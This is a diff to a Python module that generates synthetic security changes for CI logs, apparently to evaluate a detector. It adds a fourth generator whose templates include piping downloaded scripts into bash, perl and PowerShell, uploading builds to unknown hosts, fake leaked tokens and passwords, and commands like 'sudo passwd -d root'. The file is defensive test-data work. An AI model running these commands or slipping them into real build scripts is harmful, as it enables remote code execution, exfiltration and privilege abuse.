@@ -1,8 +1,8 @@
-"""Generators of security changes for CI logs, written apart: A to develop the detector on, B and C to report on.
+"""Generators of security changes for CI logs, of four kinds each. The detector reads nothing of this.
 
-A writes commands as a build script has them. B writes what a log shows without the command, or in other words. C was
-written after the detector was finished, and neither was changed since. ``inject`` gives the changed log. The detector
-reads nothing of this.
+A and C were developed on: patterns of the log's reading were widened after their misses had been read. B was looked at
+while the detector was chosen. D was written last, measured once, and nothing was changed after it. All have
+authors who know the detector: expect less of other people's changes.
 """
 
 from __future__ import annotations
@@ -169,18 +169,67 @@ def _c(draw: Draw) -> dict[str, tuple[str, ...]]:
     }
 
 
-GENERATORS: dict[str, Callable[[Draw], dict[str, tuple[str, ...]]]] = {"A": _a, "B": _b, "C": _c}
+def _d(draw: Draw) -> dict[str, tuple[str, ...]]:
+    host = _host(draw, (".com", ".net", ".me", ".us", ".pl", ".space", ".build", ".nl"))
+    name, other = _word(draw), _word(draw)
+    url = f"https://{host}/{name}"
+    blocks = [_text(draw, length, "abcdef0123456789") for length in (8, 4, 4, 4, 12)]
+    return {
+        "remote_script": (
+            f"$ curl --silent --location {url} | tee /tmp/{name} | bash",
+            f"+ bash -c 'wget -O- {url} | sh -x'",
+            f"Run curl -sSfL {url}.sh | sh -s v1.2",
+            f"$ perl -MLWP::Simple -e 'eval get(\"{url}\")'",
+            f"Step 4/9 : RUN wget {url}.sh -O /{name}.sh && sh /{name}.sh",
+            f'$ node -e "$(curl -s {url}.js)"',
+            f"$ php -r \"copy('{url}', 'setup.php');\"\n$ php setup.php",
+            f"> Invoke-Expression (Invoke-WebRequest -UseBasicParsing {url}.ps1).Content",
+        ),
+        "new_host": (
+            f"$ sftp ci@{host}:/drop <<< 'put dist.zip'",
+            f"npm http fetch GET 200 {url} 84ms",
+            f"Cloning into '{name}'...\nfatal: unable to access '{url}.git/': timed out",
+            f"$ openssl s_client -connect {host}:443",
+            f"Get:1 http://{host}/ubuntu trusty/main amd64 {name} 1.0 [12 kB]",
+            f"[INFO] Downloaded from {name}: https://{host}/maven2/{name}/{other}/1.0/{other}-1.0.jar (12 kB)",
+            f"$ rsync -az build/ ci@{host}:/srv/www",
+            f"remote: Pushing webhook to http://{_octets(draw)}/hook",
+        ),
+        "leaked_token": (
+            f"HEROKU_API_KEY={'-'.join(blocks)}",
+            f"::debug::secret={_text(draw, 24)}",
+            f"$ az login --service-principal -u {name} -p {_text(draw, 22)} --tenant x",
+            f"$ git remote set-url origin https://{name}:ghp_{_text(draw, 36)}@github.com/{name}/{other}",
+            f'[INFO] Authenticating with api-key "{_text(draw, 32)}"',
+            f"$ export PGPASSWORD='{_text(draw, 13)}'",
+            f'"password" : "{name}{draw.randint(10, 99)}#{_text(draw, 4)}"',
+            f"jwt=eyJhbGciOiJSUzI1NiJ9.{_text(draw, 70)}.{_text(draw, 43)}",
+        ),
+        "privilege": (
+            "$ sudo sh -c 'curl -V > /etc/motd'",
+            "+ sudo setfacl -m u:ci:rwx /etc",
+            "$ sudo passwd -d root",
+            "+ chmod 0777 -R build",
+            "Step 3/8 : USER root",
+            f"$ docker run --cap-add SYS_ADMIN {name}",
+            "$ doas make install",
+            "$ sudo dpkg-divert --local --rename --add /sbin/initctl",
+        ),
+    }
+
+
+GENERATORS: dict[str, Callable[[Draw], dict[str, tuple[str, ...]]]] = {"A": _a, "B": _b, "C": _c, "D": _d}
 
 
 def inject(text: str, generator: str, kind: str, draw: Draw) -> str:
-    """The log with a change at a place where a step could be: before a command or a fold (A, C), between lines (B)."""
+    """The log with a change at a place where a step could be: before a command or a fold (A, C), or between lines."""
     added = draw.choice(GENERATORS[generator](draw)[kind]).split("\n")
     rows = text.split("\n")
     starts = [
         at for at, row in enumerate(rows) if re.search(r"travis_(?:fold|time):(?:start|end)|^\$ |^##\[", row[:300])
     ]
     low, high = len(rows) // 10, max(len(rows) * 9 // 10, len(rows) // 10)
-    at = draw.choice(starts) if starts and generator != "B" else draw.randint(low, high)
+    at = draw.choice(starts) if starts and generator not in "BD" else draw.randint(low, high)
     stamp = re.match(r"\d{4}-\d\d-\d\dT[\d:.]+Z ", rows[at]) if at < len(rows) else None
     end = "\r" if text.count("\r\n") > text.count("\n") / 2 else ""
     return "\n".join([*rows[:at], *(f"{stamp[0] if stamp else ''}{line}{end}" for line in added), *rows[at:]])
